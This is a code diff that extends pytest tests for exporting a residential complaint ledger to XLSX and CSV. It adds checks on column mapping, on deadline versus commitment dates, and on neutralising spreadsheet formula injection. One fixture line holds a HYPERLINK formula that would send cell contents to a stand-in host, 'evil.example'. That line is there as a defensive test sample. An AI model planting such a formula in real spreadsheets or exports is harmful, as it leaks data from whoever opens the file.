@@ -11,7 +11,7 @@ import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
-from board.export import COLUMNS
+from board.export import COLUMNS, to_csv, to_xlsx
 from board.readonly import read_only_engine
 from board.web import create_app
 from bot.cli import main
@@ -62,9 +62,9 @@ def expected_rows(settings: Settings, database_url: str, *, masked: bool = True)
 
 def ledger_columns(row: tuple) -> tuple:
     """序号 aside, the columns `expected_rows` computes (办理情况 reduced to its status)."""
-    values = ["" if v is None else v for v in row]
-    return (int(values[1]), values[2], values[3], values[5], values[6], values[7],
-            str(values[9]).split("：")[0], values[10], values[12])  # fmt: skip
+    values = dict(zip(COLUMNS, ["" if v is None else v for v in row], strict=True))
+    return (int(values["编号"]), values["反映时间"], values["反映人"], values["问题类别"], values["问题描述"],
+            values["责任人"], str(values["办理情况"]).split("：")[0], values["办结时间"], values["满意度"])  # fmt: skip
 
 
 def test_the_xlsx_opens_and_matches_the_ledger_row_by_row(
@@ -78,9 +78,23 @@ def test_the_xlsx_opens_and_matches_the_ledger_row_by_row(
     sheet = load_workbook(out).active
     assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
     assert sheet.column_dimensions["G"].width == 40 and sheet.column_dimensions["C"].width == 17
-    first = rows[1]
-    assert first[4] == "3号楼2单元 / 第一网格" and first[8] == "2026-11-24"  # the commitment (承诺 1 明天)
-    assert first[9] == "已关闭：已疏通，管道里掏出一团抹布，请大家别往下水道扔杂物" and first[11] == "1天2小时"
+    first = dict(zip(COLUMNS, rows[1], strict=True))
+    assert first["楼栋/网格"] == "3号楼2单元 / 第一网格"
+    assert first["办理情况"] == "已关闭：已疏通，管道里掏出一团抹布，请大家别往下水道扔杂物"
+    assert first["用时"] == "1天2小时"
+
+
+def test_the_sla_deadline_and_the_cadres_commitment_are_two_columns(
+    settings: Settings, database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    rows = export(database_url, monkeypatch, tmp_path / "t.xlsx", "--format", "xlsx")
+    assert rows[0][8:10] == ("办结时限", "承诺办结")
+    with new_session(make_engine(database_url)) as session:
+        due = {t.id: t.resolution_due_at.astimezone(settings.tz) for t in all_tickets(session)}
+    by_number = {r[1]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
+    assert {n: r["办结时限"] for n, r in by_number.items()} == {n: d.strftime("%Y-%m-%d %H:%M") for n, d in due.items()}
+    assert by_number[1]["承诺办结"] == "2026-11-24"  # 承诺 1 明天
+    assert all(r["承诺办结"] is None for n, r in by_number.items() if n != 1)
 
 
 def test_unmasked_and_a_date_range(
@@ -119,3 +133,38 @@ def test_the_board_download_follows_the_filters(settings: Settings, database_url
     assert all("第二网格" in r[4] for r in rows[1:])
     overdue = list(csv.reader(io.StringIO(client.get("/export.csv?status=overdue").content.decode("utf-8-sig"))))
     assert [r[1] for r in overdue[1:]] == ["4"]
+
+
+FORMULAS = [
+    "@time 2026-11-27 09:00",
+    '[1-3号楼业主群] =cmd: =HYPERLINK("http://evil.example/?x="&A1,"3号楼2单元下水道堵了")',
+    "[1-3号楼业主群] 张阿姨: -3号楼楼道灯坏了 =1+1",
+    "[1-3号楼业主群] 王芳: 进度 2 +已联系电工",
+]
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"])
+def test_a_cell_that_would_be_a_formula_is_written_as_text(cell: str) -> None:
+    row = [1, 1, "2026-11-27 09:00", "王*", "3号楼", "给排水", cell, "", "", "", "", "", "", ""]
+    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
+    written = sheet.cell(row=2, column=7)
+    assert written.data_type == "s" and written.value == "'" + cell
+    [_header, from_csv] = csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig")))
+    assert from_csv[6] == "'" + cell
+    assert sheet.cell(row=2, column=1).value == 1  # numbers stay numbers
+
+
+def test_the_download_neutralises_formulas_from_chat(settings: Settings, tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'huiyin.db'}"
+    replay(settings, url, FORMULAS)
+    app = create_app(settings, read_only_engine(url), ManualClock(SATURDAY_NOON), BoardSecrets(None, None))
+    client = TestClient(app)
+    sheet = load_workbook(io.BytesIO(client.get("/export.xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
+    assert all(cell.data_type == "s" for cell in cells)
+    texts = [cell.value for cell in cells]
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
+    assert {"'=***", "'" + FORMULAS[1].split(": ", 1)[1], "'-3号楼楼道灯坏了 =1+1"} <= set(texts)
+    rows = list(csv.reader(io.StringIO(client.get("/export.csv").content.decode("utf-8-sig"))))
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [row[3] for row in rows[1:]] == ["'=***", "张**"]
